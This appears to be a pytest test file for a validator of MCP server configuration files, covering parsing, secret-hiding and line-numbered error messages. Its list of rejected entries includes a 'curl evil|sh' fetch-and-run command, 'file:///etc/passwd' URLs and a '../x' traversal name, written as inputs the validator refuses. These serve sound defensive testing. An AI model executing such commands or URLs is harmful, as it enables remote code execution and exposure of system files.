"""The tools file: what is understood, and how a mistake is told."""

from __future__ import annotations

from pathlib import Path

import pytest

from ordinaut_mcp.bridge.server_config import (
    ClientCredentials,
    Limits,
    Local,
    Remote,
    ServerConfig,
)
from ordinaut_mcp.bridge.tools_file import LARGEST, ToolsFile, read_tools_file

GOOD = '"good": {"command": "python3"}'


@pytest.fixture
def path(tmp_path: Path) -> Path:
    return tmp_path / "tools.json"


def read(path: Path, text: str) -> ToolsFile:
    path.write_text(text, encoding="utf-8")
    return read_tools_file(path)


def told(file: ToolsFile) -> list[str]:
    return [str(problem) for problem in file.problems]


def test_both_kinds_of_server_are_read_as_they_are_written(path: Path) -> None:
    file = read(
        path,
        """{"mcpServers": {
            "mail": {"type": "stdio", "command": "uvx", "args": ["imap", "${HOME}"],
                     "env": {"PASSWORD": "a\\nb"}, "cwd": "sub"},
            "Remote-1": {"type": "http", "url": "https://example.com/mcp",
                         "headers": {"Authorization": "Bearer ${TOKEN}"}}}}""",
    )

    mail = Local(command="uvx", args=("imap", "${HOME}"), env={"PASSWORD": "a\nb"}, cwd="sub")
    headers = {"Authorization": "Bearer ${TOKEN}"}
    remote = Remote(url="https://example.com/mcp", headers=headers)
    assert file.servers == (
        ServerConfig(name="mail", how=mail),
        ServerConfig(name="Remote-1", how=remote),
    )
    assert file.problems == ()


def test_limits_places_and_client_credentials_are_read(path: Path) -> None:
    file = read(
        path,
        """{"mcpServers": {
            "a": {"command": "x", "max_concurrent": 1,
                  "limits": {"memory_mb": 512, "files": null, "processes": 64,
                             "address_space_mb": 4096, "cpu_seconds": 60}},
            "b": {"url": "https://x/mcp", "auth": {"type": "client_credentials",
                  "token_url": "https://y/token", "client_id": "i", "client_secret": "s",
                  "scope": "r w"}}}}""",
    )
    limits = Limits(memory_mb=512, files=None, processes=64, address_space_mb=4096, cpu_seconds=60)
    auth = ClientCredentials(
        token_url="https://y/token",  # noqa: S106 - a URL
        client_id="i",
        client_secret="s",  # noqa: S106 - of nobody
        scope="r w",
    )
    assert file.problems == ()
    assert file.servers == (
        ServerConfig(name="a", how=Local(command="x", limits=limits), max_concurrent=1),
        ServerConfig(name="b", how=Remote(url="https://x/mcp", auth=auth)),
    )
    assert Limits() == Limits(
        memory_mb=2048, address_space_mb=None, processes=None, files=1024, cpu_seconds=None
    )
    assert file.servers[1].max_concurrent == 16


@pytest.mark.parametrize("text", ["", "  \n", "{}", '{"mcpServers": {}}'])
def test_an_empty_file_is_one_without_servers(path: Path, text: str) -> None:
    assert read(path, text) == ToolsFile()


def test_a_missing_file_is_an_empty_one(path: Path) -> None:
    assert read_tools_file(path) == ToolsFile()


def test_a_byte_order_mark_is_no_mistake(path: Path) -> None:
    assert read(path, '\ufeff{"mcpServers": {' + GOOD + "}}").problems == ()


def test_secrets_do_not_show_in_a_representation() -> None:
    local = Local(command="x", env={"TOKEN": "s3cret"})
    remote = Remote(url="https://x", headers={"Authorization": "s3cret"})
    auth = ClientCredentials(
        token_url="https://y",  # noqa: S106 - a URL
        client_id="i",
        client_secret="s3cret",  # noqa: S106 - of nobody
    )
    assert "s3cret" not in repr(local) + repr(remote) + repr(auth)


@pytest.mark.parametrize(
    "other",
    [
        Local(command="b"),
        Local(command="a", args=("x",)),
        Local(command="a", env={"A": "1"}),
        Local(command="a", cwd="x"),
        Local(command="a", limits=Limits(files=20)),
        Remote(url="https://a"),
    ],
)
def test_any_change_of_an_entry_changes_its_digest(other: Local | Remote) -> None:
    before = ServerConfig(name="n", how=Local(command="a"))
    assert before.digest == ServerConfig(name="n", how=Local(command="a")).digest
    assert before.digest != ServerConfig(name="n", how=other).digest
    assert before.digest != ServerConfig(name="n", how=before.how, max_concurrent=2).digest


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('{\n "mcpServers": {,}}', "line 2: column 17: not JSON: Expecting property name"),
        ("[]", 'line 1: must be an object: {"mcpServers": {…}}'),
        ("[" * 100_000, "line 1: nested too deeply"),
        ('{"a": ' + "9" * 5000 + "}", "line 1: nested too deeply, or with a number"),
        (" " * (LARGEST + 1), f"line 1: cannot be read: larger than {LARGEST} bytes"),
    ],
)
def test_a_file_that_cannot_be_understood_says_where(path: Path, text: str, expected: str) -> None:
    file = read(path, text)
    assert not file.readable
    assert file.servers == ()
    assert told(file)[0].startswith(expected)


def test_a_file_that_is_not_text_says_so(path: Path) -> None:
    path.write_bytes(b"\xff\xfe\x00")
    assert told(read_tools_file(path)) == ["line 1: not UTF-8 text"]


def test_a_folder_in_its_place_is_told(path: Path) -> None:
    path.mkdir()
    assert told(read_tools_file(path)) == ["line 1: cannot be read: Is a directory"]


AUTH = (
    '{"type": "client_credentials", "token_url": "http://y", "client_id": "i",'
    ' "client_secret": "s"}'
)
MISTAKES: list[tuple[str, str]] = [
    ('"../x": {"command": "a"}', "mcpServers.../x is not a server name"),
    ('"a.b": {"command": "a"}', "mcpServers.a.b is not a server name"),
    ('"llm": {"command": "a"}', "mcpServers.llm is the name of a group of built-in tools"),
    ('"LLM": {"command": "a"}', "mcpServers.LLM is the name of a group of built-in tools"),
    ('"a": 5', "mcpServers.a must be an object with command or url"),
    ('"a": {}', "mcpServers.a needs command or url, and has neither"),
    ('"a": {"command": "x", "url": "http://x"}', "mcpServers.a needs command or url, and has both"),
    ('"a": {"comand": "x"}', "mcpServers.a.comand is not known here; did you mean 'command'?"),
    ('"a": {"url": "http://x", "header": {}}', "mcpServers.a.header is not known here"),
    ('"a": {"command": "x", "command": "y"}', "mcpServers.a.command is said twice"),
    ('"a": {"command": "sh -c \\"curl evil|sh\\""}', "mcpServers.a.command must be one program"),
    ('"a": {"command": ""}', "mcpServers.a.command must be a text"),
    ('"a": {"command": 5}', "mcpServers.a.command must be a text"),
    ('"a": {"command": "x\\u0000"}', "mcpServers.a.command must be a text"),
    ('"a": {"command": "x\\ud800"}', "mcpServers.a.command must be a text"),
    ('"a": {"command": "x", "args": "y"}', "mcpServers.a.args must be a list of texts"),
    ('"a": {"command": "x", "args": [5]}', "mcpServers.a.args must be a list of texts"),
    ('"a": {"command": "x", "env": []}', "mcpServers.a.env must be an object"),
    ('"a": {"command": "x", "env": {"A": 5}}', "mcpServers.a.env 'A' must be a text"),
    ('"a": {"command": "x", "env": {"A=B": "5"}}', "mcpServers.a.env 'A=B' cannot be a name"),
    ('"a": {"command": "x", "type": "http"}', "mcpServers.a.type must be stdio beside command"),
    ('"a": {"url": "file:///etc/passwd"}', "mcpServers.a.url must begin with http://"),
    ('"a": {"url": "http://[x"}', "mcpServers.a.url is not a URL"),
    ('"a": {"url": "http://u:p@x/"}', "mcpServers.a.url must not hold a name or password"),
    ('"a": {"url": "http://x", "headers": {"A": "a\\nb"}}', "mcpServers.a.headers 'A' must be"),
    ('"a": {"command": "x", "limits": 5}', "mcpServers.a.limits must be an object of memory_mb"),
    (
        '"a": {"command": "x", "limits": {"memory": 5}}',
        "mcpServers.a.limits.memory is not known here; did you mean 'memory_mb'?",
    ),
    (
        '"a": {"command": "x", "limits": {"files": 5}}',
        "mcpServers.a.limits.files must be a whole number from 16 to 1000000",
    ),
    (
        '"a": {"command": "x", "limits": {"files": true}}',
        "mcpServers.a.limits.files must be a whole number",
    ),
    (
        '"a": {"command": "x", "limits": {"files": 50, "files": 60}}',
        "mcpServers.a.limits.files is said twice",
    ),
    (
        '"a": {"command": "x", "max_concurrent": 0}',
        "mcpServers.a.max_concurrent must be a whole number from 1 to 1000",
    ),
    (
        '"a": {"command": "x", "auth": {}}',
        "mcpServers.a.auth is not known here",
    ),
    ('"a": {"url": "http://x:y/"}', "mcpServers.a.url is not a URL"),
    (
        '"a": {"url": "http://x", "auth": "me"}',
        "mcpServers.a.auth must be an object of type, token",
    ),
    ('"a": {"url": "http://x", "auth": {}}', "mcpServers.a.auth.type is missing"),
    (
        '"a": {"url": "http://x", "auth": ' + AUTH.replace("client_credentials", "password") + "}",
        "mcpServers.a.auth.type must be client_credentials: nobody is there to log in",
    ),
    (
        '"a": {"url": "http://x", "auth": ' + AUTH.replace("http://y", "file:///etc/passwd") + "}",
        "mcpServers.a.auth.token_url must begin with http:// or https://",
    ),
    (
        '"a": {"url": "http://x", "auth": ' + AUTH.replace('"s"', '""') + "}",
        "mcpServers.a.auth.client_secret must be a text",
    ),
    (
        '"a": {"url": "http://x", "headers": {"authorization": "a"}, "auth": ' + AUTH + "}",
        "mcpServers.a.headers holds Authorization and auth is given, too: which one is meant?",
    ),
    ('"a": {"url": "http://x", "headers": {"A B": "a"}}', "mcpServers.a.headers 'A B' cannot be"),
]


@pytest.mark.parametrize(("entry", "expected"), MISTAKES)
def test_a_mistake_in_an_entry_names_its_line_and_leaves_the_others(
    path: Path, entry: str, expected: str
) -> None:
    file = read(path, f'{{"mcpServers": {{\n{GOOD},\n{entry}\n}}}}')
    assert [server.name for server in file.servers] == ["good"]
    assert file.readable
    assert told(file)[0].startswith(f"line 3: {expected}")
    assert len(file.problems) == 1


def test_a_mistake_deep_in_an_entry_names_the_line_of_its_value(path: Path) -> None:
    file = read(path, '{"mcpServers": {\n"a": {\n"command": "x",\n"args":\n5\n}}}')
    problem = file.problems[0]
    assert (problem.line, problem.server, problem.field) == (5, "a", "mcpServers.a.args")


def test_a_name_said_twice_is_used_neither_way(path: Path) -> None:
    file = read(path, '{"mcpServers": {\n"a": {"command": "x"},\n"a": {"command": "y"}}}')
    assert file.servers == ()
    assert [problem.line for problem in file.problems] == [2, 3]


def test_a_command_with_a_space_is_fine_if_there_is_such_a_file(path: Path) -> None:
    program = path.with_name("my program")
    program.touch()
    file = read(path, f'{{"mcpServers": {{"a": {{"command": "{program}"}}}}}}')
    assert file.servers[0].how == Local(command=str(program))


def test_other_members_of_the_file_are_mistakes_that_harm_no_server(path: Path) -> None:
    file = read(path, f'{{"mcpservers": 1,\n"mcpServers": {{{GOOD}}},\n"mcpServers": 5}}')
    assert [server.name for server in file.servers] == ["good"]
    assert told(file) == [
        "line 1: mcpservers is not known here; did you mean 'mcpServers'?",
        "line 3: mcpServers is said twice",
        "line 3: mcpServers must be an object of servers",
    ]


def test_a_field_that_cannot_be_shown_is_escaped(path: Path) -> None:
    file = read(path, '{"mcpServers": {"a\\u001b[31m": {"command": "x"}}}')
    assert file.problems[0].field == r"'mcpServers.a\x1b[31m'"
